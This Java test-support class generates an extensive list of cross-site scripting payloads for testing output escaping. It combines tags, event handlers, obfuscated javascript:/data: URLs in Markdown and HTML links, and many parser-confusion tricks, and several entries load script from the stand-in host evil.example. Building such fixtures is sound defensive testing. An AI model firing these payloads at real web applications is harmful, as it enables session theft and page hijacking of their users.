package org.countersign.testing;

import java.util.ArrayList;
import java.util.List;

/** Texts that would run a script where output is not escaped: tags × handlers, addresses × spellings, and odd HTML. */
public final class Payloads {

    private static final String ACT = "window.__ran=1";
    private static final List<String> TAGS = List.of(
            "img src=x",
            "svg",
            "body",
            "video src=x",
            "audio src=x",
            "iframe src=x",
            "input autofocus",
            "details open",
            "marquee",
            "object data=x",
            "a href=#",
            "select autofocus",
            "textarea autofocus",
            "math",
            "style",
            "form");
    private static final List<String> HANDLERS = List.of(
            "onerror",
            "onload",
            "onfocus",
            "ontoggle",
            "onmouseover",
            "onstart",
            "onanimationend",
            "onpointerenter",
            "onclick");
    private static final List<String> ADDRESSES = List.of(
            "javascript:%s",
            "JaVaScRiPt:%s",
            "&#106;avascript:%s",
            "&#x6A;avascript:%s",
            "java\tscript:%s",
            "javascript&colon;%s",
            "\u0001javascript:%s",
            "javascript:%%0a%s",
            "data:text/html,<script>%s</script>",
            "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==",
            "vbscript:%s",
            "livescript:%s",
            "//evil.example/%s",
            "blob:%s",
            "file:///%s",
            "filesystem:%s",
            "view-source:javascript:%s");
    private static final List<String> LINKS = List.of(
            "[x](%s)",
            "[x](<%s>)",
            "![x](%s)",
            "<%s>",
            "[x]: %s\n\n[x]",
            "<a href=\"%s\">x</a>",
            "[![x](%s)](%s)",
            "<iframe src=\"%s\"></iframe>");
    private static final List<String> ODD = List.of(
            "<script>%s</script>",
            "<ScRiPt>%s</sCrIpT>",
            "<script src=//evil.example/x.js></script>",
            "<scr<script>ipt>%s</scr</script>ipt>",
            "<!--><script>%s</script>-->",
            "<![CDATA[<script>%s</script>]]>",
            "`</code><script>%s</script>`",
            "```\n</pre><script>%s</script>\n```",
            "~~~html\n<script>%s</script>\n~~~",
            "<math><mtext></p><script>%s</script>",
            "<svg><style><img src=x onerror=%s></style></svg>",
            "<noscript><p title=\"</noscript><img src=x onerror=%s>\">",
            "<template><script>%s</script></template>",
            "<meta http-equiv=refresh content=\"0;url=javascript:%s\">",
            "<base href=javascript:%s//>",
            "<link rel=stylesheet href=javascript:%s>",
            "<style>@import 'javascript:%s'</style>",
            "<form action=javascript:%s><button>x</button></form>",
            "<button formaction=javascript:%s>x</button>",
            "<p style=\"background:url(javascript:%s)\">x</p>",
            "<table background=javascript:%s>",
            "[x\" onmouseover=\"%s](https://example.org)",
            "[x](https://example.org \"t\\\" onclick=\\\"%s\")",
            "[x](https://example.org/\"onclick=\"%s)",
            "![x\" onerror=\"%s](https://example.org/x.png)",
            "# <img src=x onerror=%s>",
            "> <script>%s</script>",
            "- <script>%s</script>",
            "| <script>%s</script> |",
            "&lt;script&gt;%s&lt;/script&gt;",
            "\\<script>%s\\</script>",
            "%%3Cscript%%3E%s%%3C/script%%3E",
            "\\u003cscript\\u003e%s\\u003c/script\\u003e",
            "<img src=x:x onerror=%s//",
            "<<script>%s//<</script>",
            "{{constructor.constructor('%s')()}}",
            "${%s}",
            "<x onclick=%s>x</x>",
            "<a\u000bhref=javascript:%s>x</a>",
            "<img/src=x/onerror=%s>",
            "<svg><animate onbegin=%s attributeName=x dur=1s>",
            "<svg><set attributeName=href to=javascript:%s>",
            "<xmp><script>%s</script></xmp>");

    private Payloads() {}

    /** All of them, each once, always in the same order. */
    public static List<String> all() {
        List<String> payloads = new ArrayList<>();
        for (String tag : TAGS) {
            HANDLERS.forEach(handler -> payloads.add("<" + tag + " " + handler + "=" + ACT + ">"));
        }
        for (String address : ADDRESSES) {
            LINKS.forEach(link -> payloads.add(link.replace("%s", address.formatted(ACT))));
        }
        ODD.forEach(odd -> payloads.add(odd.formatted(ACT)));
        return List.copyOf(payloads);
    }
}
